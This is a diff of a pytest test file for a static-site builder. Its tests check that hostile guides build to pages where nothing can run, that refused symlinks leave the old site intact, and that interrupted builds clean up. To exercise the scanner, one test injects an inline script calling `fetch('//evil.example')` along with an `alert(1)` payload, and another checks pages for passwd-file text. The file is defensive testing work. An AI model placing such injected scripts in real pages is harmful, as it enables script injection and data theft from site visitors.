@@ -4,65 +4,17 @@ from __future__ import annotations
 
 import filecmp
 import re
+import shutil
 import subprocess
 import sys
 import time
-from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
-from meshkit.sanitise import url_allowed
 from tests.builds.conftest import build, check, copy_fixture
+from tests.builds.runnable import ThemeScripts
 from tests.conftest import ROOT, VALID_FRONT_MATTER, guide_source
-
-EXECUTABLE_TAGS = {"iframe", "object", "embed", "form", "base", "frame", "applet"}
-
-
-class Executable(HTMLParser):
-    """Collects what could run in a page: scripts not from the theme, handlers, bad URLs."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.found: list[str] = []
-        self.in_script = False
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        values = dict(attrs)
-        if tag in EXECUTABLE_TAGS:
-            self.found.append(f"<{tag}>")
-        if tag == "script":
-            self.in_script = True
-            src = values.get("src") or ""
-            if src and not src.startswith(("../", "assets/", "./")) and "assets/" not in src:
-                self.found.append(f"script src={src}")
-        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
-            self.found.append("meta refresh")
-        for name, value in attrs:
-            if name.startswith("on"):
-                self.found.append(f"{tag} {name}")
-            if (
-                name in {"href", "src", "action", "formaction", "xlink:href", "data"}
-                and value
-                and not url_allowed(value)
-            ):
-                self.found.append(f"{tag} {name}={value}")
-            if name == "style" and value and "url(" in value:
-                self.found.append(f"{tag} style={value}")
-
-    def handle_endtag(self, tag: str) -> None:
-        if tag == "script":
-            self.in_script = False
-
-    def handle_data(self, data: str) -> None:
-        if self.in_script and "alert(" in data:
-            self.found.append(f"script containing {data[:40]!r}")
-
-
-def executable(html: str) -> list[str]:
-    scan = Executable()
-    scan.feed(html)
-    return scan.found
 
 
 def test_hostile_guides_build_to_pages_where_nothing_can_run(
@@ -71,12 +23,12 @@ def test_hostile_guides_build_to_pages_where_nothing_can_run(
     config = copy_fixture("hostile", tmp_path)
     site = tmp_path / "site"
     assert build(config, site) == 0
+    theme = ThemeScripts.of(clean_build(config, tmp_path / "clean"))
     pages = list(site.rglob("*.html"))
     assert len(pages) > 5
     for page in pages:
-        html = page.read_text(encoding="utf-8")
-        assert executable(html) == [], page
-        assert "root:x:0:0" not in html
+        assert theme.runnable(page, site) == [], page
+        assert "root:x:0:0" not in page.read_text(encoding="utf-8")
     breakout = (site / "inclusion" / "breakout" / "index.html").read_text(encoding="utf-8")
     assert "{{ config.site_name }}" in breakout  # template syntax stays text
     title = breakout.split("<title>")[1].split("</title>")[0]
@@ -86,6 +38,32 @@ def test_hostile_guides_build_to_pages_where_nothing_can_run(
     assert build(config, tmp_path / "strict") == 1  # the removed HTML fails a strict build
     failed = next(line for line in capsys.readouterr().err.splitlines() if "Build failed" in line)
     assert re.fullmatch(r"Build failed: .*[^.!]\. The previous site in .* was kept\.", failed)
+
+
+def clean_build(config: Path, folder: Path) -> Path:
+    """Build the site of `config` again with one plain guide in place of its guides."""
+    shutil.copytree(config.parent, folder, ignore=shutil.ignore_patterns("site", "guides"))
+    (folder / "guides" / "inclusion").mkdir(parents=True)
+    (folder / "guides" / "inclusion" / "plain.md").write_text(guide_source(), "utf-8")
+    assert build(folder / "mkdocs.yml", folder / "site") == 0
+    return folder / "site"
+
+
+def test_a_script_the_theme_does_not_give_is_found(tmp_path: Path) -> None:
+    config = tiny_site(tmp_path)
+    site = clean_build(config, tmp_path / "clean")
+    theme = ThemeScripts.of(site)
+    page = site / "inclusion" / "plain" / "index.html"
+    html = page.read_text("utf-8")
+    assert theme.runnable(page, site) == []
+    bundle = next(src for src in theme.files if "bundle" in src)
+    (site / bundle).write_text("alert(1)", "utf-8")
+    assert theme.runnable(page, site) == [f"script src=../../{bundle} is not the theme's file"]
+    hidden = html.replace("</body>", "<script>fetch('//evil.example')</script></body>")
+    page.write_text(hidden, "utf-8")
+    assert "inline script \"fetch('//evil.example')\"" in theme.runnable(page, site)
+    page.write_text(html.replace("</body>", '<script src="../../assets/x.js"></script></body>'))
+    assert "script src=../../assets/x.js" in theme.runnable(page, site)
 
 
 def test_check_names_each_hostile_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -148,6 +126,27 @@ def test_a_failed_build_leaves_the_previous_site_untouched(tmp_path: Path) -> No
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site")] == []
 
 
+@pytest.mark.parametrize(
+    ("raised", "status"), [("KeyboardInterrupt", 130), ("RuntimeError('a bug')", None)]
+)
+def test_a_stopped_build_leaves_no_staging_folder_and_the_old_site(
+    tmp_path: Path, raised: str, status: int | None
+) -> None:
+    config = tiny_site(tmp_path)
+    site = tmp_path / "site"
+    assert build(config, site) == 0
+    before = {p: p.read_bytes() for p in site.rglob("*") if p.is_file()}
+    (tmp_path / "stop.py").write_text(f"def on_post_build(config):\n    raise {raised}\n")
+    config.write_text(config.read_text("utf-8") + "hooks:\n  - stop.py\n", "utf-8")
+    if status is None:
+        with pytest.raises(RuntimeError, match="a bug"):
+            build(config, site)
+    else:
+        assert build(config, site) == status
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site")] == []
+    assert {p: p.read_bytes() for p in site.rglob("*") if p.is_file()} == before
+
+
 def test_two_builds_of_the_same_input_are_byte_identical(tmp_path: Path) -> None:
     config = tiny_site(tmp_path)
     assert build(config, tmp_path / "one") == 0
@@ -208,19 +207,27 @@ def test_github_format_prints_annotations(
     ]
 
 
-def test_a_symlink_out_of_the_repository_is_refused_in_the_build(tmp_path: Path) -> None:
+def test_a_symlink_out_of_the_repository_is_refused_in_the_build(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
     secret = tmp_path.parent / f"{tmp_path.name}-secret.md"
     secret.write_text(
         guide_source(VALID_FRONT_MATTER.replace("Inclusive professional learning", "SECRET")),
         "utf-8",
     )
     config = tiny_site(tmp_path)
-    (tmp_path / "guides" / "inclusion" / "leak.md").symlink_to(secret)
     site = tmp_path / "site"
+    assert build(config, site) == 0
+    before = {p: p.read_bytes() for p in site.rglob("*") if p.is_file()}
+    (tmp_path / "guides" / "inclusion" / "leak.md").symlink_to(secret)
+    caplog.clear()
     assert build(config, site) == 1
-    assert not site.exists() or "SECRET" not in "".join(
-        p.read_text("utf-8") for p in site.rglob("*.html")
+    assert (
+        "guides/inclusion/leak.md:1: error: this guide is a link to a file outside the "
+        "repository" in caplog.text
     )
+    assert {p: p.read_bytes() for p in site.rglob("*") if p.is_file()} == before
+    assert not any(b"SECRET" in content for content in before.values())
 
 
 def test_files_outside_the_site_cannot_be_linked(
